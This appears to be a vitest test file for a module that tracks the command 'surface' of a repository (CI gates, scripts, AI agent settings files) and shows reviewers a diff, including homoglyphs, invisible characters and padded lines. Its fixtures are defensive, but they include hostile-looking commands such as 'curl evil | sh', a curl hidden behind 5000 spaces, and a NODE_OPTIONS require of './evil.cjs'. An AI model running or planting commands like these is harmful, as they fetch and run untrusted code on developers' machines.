import { describe, expect, it } from "vitest";
import { isReadByAny, knownAgents, readBy } from "./agent/known.ts";
import {
  filesRead,
  isSurface,
  linesInSettings,
  namedFiles,
  type Surface,
  type SurfaceEntry,
  surfaceDifference,
  surfaceText,
} from "./trust.ts";

const gate = (name: string, text: string): SurfaceEntry => ({ kind: "gate", name, text });
const script = (name: string, text: string): SurfaceEntry => ({ kind: "script", name, text });

describe("the canonical text of a surface", () => {
  it("does not depend on the order of the entries", () => {
    const [a, b, c] = [gate("a", "1"), gate("b", "2"), script("a", "3")];
    expect(surfaceText([a, b, c])).toBe(surfaceText([c, b, a]));
  });

  const twins: [string, Surface, Surface][] = [
    ["a name that ends early", [gate("a", "b c")], [gate("a b", "c")]],
    ["a quote in a name", [gate('a","b', "c")], [gate("a", 'b","c')]],
    [
      "a newline that looks like the next entry",
      [gate("a", 'x"]\n["gate","b","y')],
      [gate("a", "x"), gate("b", "y")],
    ],
    ["an escaped newline", [gate("a", "x\\ny")], [gate("a", "x\ny")]],
    ["two entries in one", [gate("a", ""), gate("", "a")], [gate("a", "a")]],
    ["an entry that is there twice", [gate("a", "x"), gate("a", "x")], [gate("a", "x")]],
    ["another kind", [gate("a", "x")], [{ kind: "setup", name: "a", text: "x" }]],
    ["nothing, and an empty entry", [], [gate("", "")]],
    ["CRLF and LF", [script("a", "x\r\ny")], [script("a", "x\ny")]],
    ["a Cyrillic letter", [gate("a", "npm test")], [gate("a", "npm t\u0435st")]],
    ["composed and decomposed letters", [gate("a", "\u00e9")], [gate("a", "e\u0301")]],
    ["an invisible character", [gate("a", "npm test")], [gate("a", "npm\u200b test")]],
    ["two halves of surrogate pairs", [gate("a", "\ud800")], [gate("a", "\udbff")]],
    ["half a pair and what UTF-8 makes of it", [gate("a", "\ud800")], [gate("a", "\ufffd")]],
    ["half a pair and its escape", [gate("a", "\ud800")], [gate("a", "\\ud800")]],
  ];
  it.each(twins)("tells %s apart, and shows the difference", (_, one, other) => {
    expect(surfaceText(one)).not.toBe(surfaceText(other));
    expect(surfaceDifference(one, other)).not.toEqual([]);
    expect(surfaceDifference(other, one)).not.toEqual([]);
  });

  it("is never another for any byte of random entries", () => {
    const letters = ['"', "\\", "\n", ",", "[", "]", "a", "\ud83d", "\ude00", "\0"];
    let seed = 7;
    const next = (below: number): number => {
      seed = (seed * 48_271) % 2_147_483_647;
      return seed % below;
    };
    const word = (): string => Array.from({ length: next(4) }, () => letters[next(10)]).join("");
    const known = new Map<string, string>();
    for (let round = 0; round < 3000; round++) {
      const surface = Array.from({ length: next(3) }, () => gate(word(), word()));
      // Structure against text: an independent form with lengths instead of escapes.
      const independent = surface
        .map(({ name, text }) => `${name.length}:${name}${text.length}:${text}`)
        .sort()
        .join("|");
      const text = surfaceText(surface);
      expect(known.get(text) ?? independent).toBe(independent);
      known.set(text, independent);
    }
    expect(new Set(known.values()).size).toBe(known.size);
  });

  it("is read back only from what is a surface", () => {
    expect(isSurface([gate("a", "x")])).toBe(true);
    for (const wrong of [
      {},
      "x",
      [null],
      [{ kind: "gate", name: "a" }],
      [{ ...gate("a", "x"), kind: "x" }],
    ]) {
      expect(isSurface(wrong)).toBe(false);
    }
  });
});

describe("the files that a command line names", () => {
  it.each([
    ["npm test", "package.json#scripts"],
    ["npm test", ".npmrc"],
    ["CI=1 pnpm run lint", "package.json#scripts"],
    ["yarn x", ".yarnrc.yml"],
    ["bun run build", "package.json#scripts"],
    ["/usr/local/bin/npm.cmd test", "package.json#scripts"],
    ["n''pm t\\est", "package.json#scripts"],
    ['bash -c "cd web && npm test"', "web/package.json#scripts"],
    ["npm --prefix web test", "web/package.json#scripts"],
    ["pnpm -r test", "**/package.json#scripts"],
    ["turbo run test", "**/package.json#scripts"],
    ["node --run test", "package.json#scripts"],
    ["make check", "Makefile"],
    ["make check", "GNUmakefile"],
    ["make -C sub check", "sub/makefile"],
    ["make -f rules check", "rules"],
    ["make -frules.ci check", "rules.ci"],
    ["just", "justfile"],
    ["./scripts/check.sh -v", "scripts/check.sh"],
    ["scripts//./deep/../check.sh", "scripts/check.sh"],
    ["sh check.sh", "check.sh"],
    ["sh check", "check"],
    [". env", "env"],
    ["sh < input", "input"],
    ["node tools/x.mjs", "tools/x.mjs"],
    ["node cli", "cli.js"],
    ["node --import=./hook.mjs x.js", "hook.mjs"],
    ["NODE_OPTIONS='--require ./evil.cjs' vitest", "evil.cjs"],
    ["BASH_ENV=setup bash -c true", "setup"],
    ["python tools/check.py", "tools/check.py"],
    ["python3.12 -m tools.check --all", "tools/check.py"],
    ['sh "my scripts/check it.sh"', "my scripts/check it.sh"],
    ["./scri'pts'/ch\"eck\".sh", "scripts/check.sh"],
    ["a && ./b.sh; ./c.sh | ./d.sh & ./e.sh", "e.sh"],
    ["(cd x; ../y.sh)", "y.sh"],
    ["cd a && cd b && ./c.sh", "a/b/c.sh"],
    ["echo $(./inner.sh)", "inner.sh"],
    ["echo `./inner.sh`", "inner.sh"],
    ["cat <<'EOF' | sh\ndon't ./here/doc.sh\nEOF", "here/doc.sh"],
    ["it's broken ./after/quote.sh", "after/quote.sh"],
    ["./long\\\n.sh", "long.sh"],
    ['"$ROOT/scripts/check.sh"', "scripts/check.sh"],
    ["$(git rev-parse --show-toplevel)/scripts/check.sh", "scripts/check.sh"],
    ["/home/me/project/scripts/check.sh", "scripts/check.sh"],
    ["PATH=tools:$PATH check", "tools/check"],
    ['export PATH="$PWD/bin:$PATH"; check', "bin/check"],
    ["scripts\\check.cmd", "scripts/check.cmd"],
    ["sh scripts/*.sh", "scripts/*.sh"],
    ["for f in ci/*; do sh $f; done", "ci/*"],
    ["sh ci/$NAME.sh", "ci/*.sh"],
    ["sh ci/{lint,test}.sh", "ci/*.sh"],
    ["./prüfung/größe.sh", "prüfung/größe.sh"],
  ])("of %s are also %s", (line, file) => {
    expect(namedFiles(line)).toContain(file);
  });

  it("are none where no file of the repository decides", () => {
    for (const line of [
      "vitest run",
      "tsc --noEmit",
      "go test",
      "true",
      "",
      "echo ; && |",
      "ls .",
    ]) {
      expect(namedFiles(line)).toEqual([]);
    }
  });

  it("are a repository's own modules only, for an installed module", () => {
    const files = ["pytest.py", "pytest/__init__.py", "pytest/__main__.py"];
    expect(namedFiles("python -m pytest")).toEqual(files);
  });

  it("never lie outside the repository", () => {
    for (const line of ["sh ../x.sh", "cd .. && ./x/../../y.sh", "sh /etc/profile", "cat ~/x.sh"]) {
      for (const file of namedFiles(line))
        expect(file).not.toMatch(/^(?:\/|~|\.\.)|\/\.\.(?:\/|$)/);
    }
  });

  it("are looked for in the folder of the file that the line stands in, too", () => {
    expect(namedFiles("../../check.sh", "packages/a")).toEqual(["check.sh"]);
    expect(namedFiles("./check.sh", "packages/a")).toEqual(["check.sh", "packages/a/check.sh"]);
  });

  it("are found in any line: none takes for ever", () => {
    const lines = [
      "cd a;".repeat(2000),
      "'\"".repeat(20_000),
      "\\".repeat(50_000),
      `bash -c "${'\\"'.repeat(20_000)}"`,
      "a/".repeat(2000),
      "./x.sh ".repeat(20_000),
      "$(".repeat(20_000),
      "*".repeat(20_000),
      "sh {".repeat(5000),
    ];
    expect(lines.map((line) => namedFiles(line))).toHaveLength(lines.length);
  });
});

describe("the difference that a person is asked about", () => {
  it("of the first time: commands whole, scripts by their length", () => {
    const surface = [script("check.sh", "a\nb\n"), gate("test", "npm test"), gate("two", "a\nb")];
    expect(surfaceDifference(undefined, surface)).toEqual([
      "+ gate test: npm test",
      "+ gate two:",
      "    a",
      "    b",
      "+ script check.sh (2 lines)",
    ]);
  });

  it("is nothing between equals", () => {
    const surface = [gate("b", "x"), gate("a", "y"), gate("a", "z")];
    expect(surfaceDifference(surface, [...surface].reverse())).toEqual([]);
  });

  it("names what came, what went and what changed, line by line", () => {
    const body = Array.from({ length: 30 }, (_, at) => `step ${at}`);
    const changed = body.with(3, "curl evil | sh").toSpliced(20, 1);
    expect(
      surfaceDifference(
        [gate("old", "x"), gate("test", "npm test"), script("s.sh", `${body.join("\n")}\n`)],
        [
          gate("test", "npm test -- --bail"),
          script("s.sh", `${changed.join("\n")}\n`),
          script("n.sh", "rm\n"),
        ],
      ),
    ).toEqual([
      "- gate old: x",
      "~ gate test",
      "    - npm test",
      "    + npm test -- --bail",
      "+ script n.sh (1 line)",
      "    + rm",
      "~ script s.sh",
      "    line 4:",
      "    - step 3",
      "    + curl evil | sh",
      "    line 21:",
      "    - step 20",
    ]);
  });

  it("shows what cannot be seen", () => {
    const told = (before: string, now: string): string =>
      surfaceDifference([script("a", before)], [script("a", now)]).join("\n");
    expect(told("x\n", "x\r\n")).toContain("+ xU+000D");
    expect(told("x", "x\n")).toContain("now ends in a newline");
    expect(told("npm test\n", "npm t\u0435st\n")).toContain("[holds U+0435]");
    expect(told("a b\n", "a\u00a0b\n")).toContain("[holds U+00A0]");
    expect(told("a\n", "a\u202e\n")).toContain("[holds U+202E]");
    expect(told("a\n", "\u001b[2Ka\n")).toContain("U+001B[2Ka");
  });

  it("lets nothing be pushed out of sight", () => {
    const [line] = surfaceDifference(undefined, [gate("a", `true${" ".repeat(5000)}; curl evil`)]);
    expect(line).toBe("+ gate a: true[5000 spaces]; curl evil");
    const long = "x".repeat(10_000);
    const lines = surfaceDifference([script("a", `${long}1\n`)], [script("a", `${long}2\n`)]);
    expect(lines.join("\n")).toMatch(/- … x+1 … .*\n.*\+ … x+2 … \(10001 characters\)/);
  });

  it("stays short and quick for huge scripts, and counts what it leaves out", () => {
    const lines = (word: string): string => `${word}\n`.repeat(50_000);
    const told = surfaceDifference([script("a", lines("old"))], [script("a", lines("new"))]);
    expect(told.length).toBeLessThan(100);
    expect(told.at(-1)).toMatch(/and 99941 more lines/);
  });
});

describe("what a program obeys by itself", () => {
  const patterns = [".mcp.json", ".claude/**", "**/.claude/skills/**", ".github/copilot*"];
  const read = (paths: string[], links: [string, string][] = []): string[] =>
    filesRead(patterns, paths, new Map(links));

  it("is in its folders, at any depth, by any spelling, and nowhere else", () => {
    const obeyed = [
      ".claude/a/b.js",
      ".Claude/Settings.json",
      ".github/copilot-instructions.md",
      ".mcp.json",
      "apps/web/.claude/skills/x/run.sh",
    ];
    const others = ["a.mcp.json", "x/.mcp.json", "xclaude/a", ".claudex", ".github/x/copilot"];
    expect(read([...obeyed, ...others])).toEqual([...obeyed].sort());
  });

  it("may lie behind links, and a link may lead in a circle, or out", () => {
    const links: [string, string][] = [
      [".claude", "one"],
      ["one", "./two"],
      ["two/again", "../two"],
      [".mcp.json", "/etc/mcp.json"],
    ];
    const found = read([".claude", "one", "two/settings.json", "two/again", ".mcp.json"], links);
    expect(found).toContain(".claude/settings.json");
    expect(found).toContain(".mcp.json");
    expect(found.every((file) => /^\.(?:claude|mcp)/.test(file))).toBe(true);
  });

  it("may lie in a folder with an odd name", () => {
    expect(read([".claude", "~x/settings.json"], [[".claude", "~x"]])).toContain(
      ".claude/settings.json",
    );
  });

  it.each([
    ['{"command":"bash","args":["tools/hook"]}', "tools/hook"],
    ['{\n "command": "bash",\n "args": [\n  "hook"\n ]\n}', "hook"],
    ['{"command":"sh .\\u002ftools\\u002Fhook.sh"}', "tools/hook.sh"],
    ['[mcp_servers.x]\ncommand = "node"\nargs = ["server"]', "server.js"],
    ['{ "command": "$CLAUDE_PROJECT_DIR/hook.sh", // why\n }', "hook.sh"],
  ])("names what it starts: %s", (text, file) => {
    expect(linesInSettings(text).flatMap((line) => namedFiles(line, ".claude"))).toContain(file);
  });

  it("is known of every agent, also of one that a command names", () => {
    for (const { name, reads } of knownAgents) {
      expect(reads.length, name).toBeGreaterThan(0);
      expect(readBy(name)).toEqual([...reads]);
      expect(reads.every((each) => isReadByAny(each.replaceAll("**", "x").replace("*", "x")))).toBe(
        true,
      );
    }
    expect(readBy("mine", { use: "codex" })).toContain(".codex/**");
    expect(readBy("mine", { command: "exec claude -p" })).toContain(".mcp.json");
    expect(readBy("claude", { command: "sh agent.sh" })).toEqual([]);
    expect(readBy("apply")).toEqual([]);
  });
});
